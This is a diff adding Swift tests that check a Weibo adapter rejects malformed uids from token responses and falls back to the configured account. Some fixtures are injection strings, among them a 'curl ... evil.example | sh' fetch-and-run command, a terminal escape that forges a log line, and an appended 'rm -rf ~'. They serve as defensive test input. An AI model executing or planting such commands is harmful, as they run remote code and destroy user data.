@@ -216,6 +216,70 @@ import Testing
         }
     }
 
+    /// `uid` values of `get_token_info` that are no Weibo uid: a shell command, a forged line
+    /// with a terminal escape, a negative number, 21 digits, a real number, a boolean.
+    static let unusableUIDs = [
+        #""5999000001; curl -s http://evil.example/x | sh""#, #""1\nweibo/5999000001: valid\u001b[2J""#, "-5",
+        #""123456789012345678901""#, "5999000001.5", "true", #""""#,
+    ]
+
+    /// A token check whose answer names an unusable uid: the advice, the saved credential's
+    /// file and its `uid` fall back to the configured account, and a warning says why, without
+    /// the platform's text.
+    @Test(arguments: unusableUIDs)
+    func anUnusableUIDFromTheTokenCheckFallsBackToTheAccount(uid: String) async throws {
+        try await WeiboHarness.run { harness in
+            harness.simulator.script(
+                "POST",
+                path: "/weibo/oauth2/get_token_info",
+                [Self.tokenInfo(uid: uid, expireIn: 259_200), Self.tokenInfo(uid: uid, expireIn: 0)]
+            )
+            harness.simulator.script(path: "/weibo/2/users/counts.json", [.json(file: "api_users_counts_ok.json")])
+            let adapter = try WeiboAdapter(
+                configuration: Self.configuration(extra: ["posts": .bool(false)], harness: harness)
+            )
+            try await adapter.collect(account: Self.first, into: harness.batch(), context: harness.context())
+            #expect(
+                harness.logs.warnings == [
+                    "weibo /oauth2/get_token_info returned an unusable uid (not 1 to 20 digits); using the configured account instead",
+                    "weibo: the configured token expires in 3 day(s); re-authorise before 2025-11-28: `collector auth weibo 5999000001`",
+                ]
+            )
+            #expect(CredentialStore(state: harness.state).stored().map(\.account) == [Self.first])
+            let saved = try #require(
+                try CredentialStore(state: harness.state).load(instance: "weibo", account: Self.first)
+            )
+            #expect(saved.attributes == ["uid": Self.first, "origin": "configured"])
+
+            // Next run, the token has expired: the advice names the account.
+            let later = try WeiboAdapter(
+                configuration: Self.configuration(extra: ["posts": .bool(false)], harness: harness)
+            )
+            let error = await #expect(throws: AdapterError.self) {
+                try await later.collect(account: Self.first, into: harness.batch(), context: harness.context())
+            }
+            #expect(error?.message.hasSuffix("re-authorise: `collector auth weibo 5999000001`") == true)
+        }
+    }
+
+    /// The uids the platform sends, as a number or a string of digits, are taken as they are.
+    @Test(arguments: ["5999000002", #""5999000002""#])
+    func aUIDOfDigitsFromTheTokenCheckNamesTheOwner(uid: String) async throws {
+        try await WeiboHarness.run { harness in
+            harness.simulator.script(
+                "POST",
+                path: "/weibo/oauth2/get_token_info",
+                [Self.tokenInfo(uid: uid, expireIn: 0)]
+            )
+            let adapter = try WeiboAdapter(configuration: Self.configuration(harness: harness))
+            let error = await #expect(throws: AdapterError.self) {
+                try await adapter.collect(account: Self.first, into: harness.batch(), context: harness.context())
+            }
+            #expect(error?.message.hasSuffix("re-authorise: `collector auth weibo 5999000002`") == true)
+            #expect(harness.logs.warnings.isEmpty)
+        }
+    }
+
     // MARK: - Counts and posts
 
     @Test func asksForAtMost100AccountsPerCountsCall() async throws {
@@ -369,6 +433,32 @@ import Testing
             }
             #expect(error?.message.contains("issued to uid 5999000002, not to account 5999000001") == true)
             #expect(try CredentialStore(state: harness.state).load(instance: "weibo", account: Self.first) == nil)
+        }
+    }
+
+    /// The code exchange's answer with an unusable uid: the token is saved under the account
+    /// being authorised, and a warning says the uid was not used.
+    @Test func authorizeFallsBackToTheAccountForAnUnusableUID() async throws {
+        try await WeiboHarness.run { harness in
+            harness.simulator.script(
+                "POST",
+                path: "/weibo/oauth2/access_token",
+                [.json(#"{"access_token":"fresh-token","expires_in":86400,"uid":"1\u001b[2J; rm -rf ~"}"#)]
+            )
+            let adapter = try WeiboAdapter(
+                configuration: Self.configuration(token: nil, extra: Self.app, harness: harness)
+            )
+            _ = try await adapter.authorize(account: Self.first, code: "CODE", context: harness.context())
+            #expect(
+                harness.logs.warnings == [
+                    "weibo /oauth2/access_token returned an unusable uid (not 1 to 20 digits); using the configured account instead"
+                ]
+            )
+            #expect(CredentialStore(state: harness.state).stored().map(\.account) == [Self.first])
+            let saved = try #require(
+                try CredentialStore(state: harness.state).load(instance: "weibo", account: Self.first)
+            )
+            #expect(saved.attributes["uid"] == Self.first)
         }
     }
 
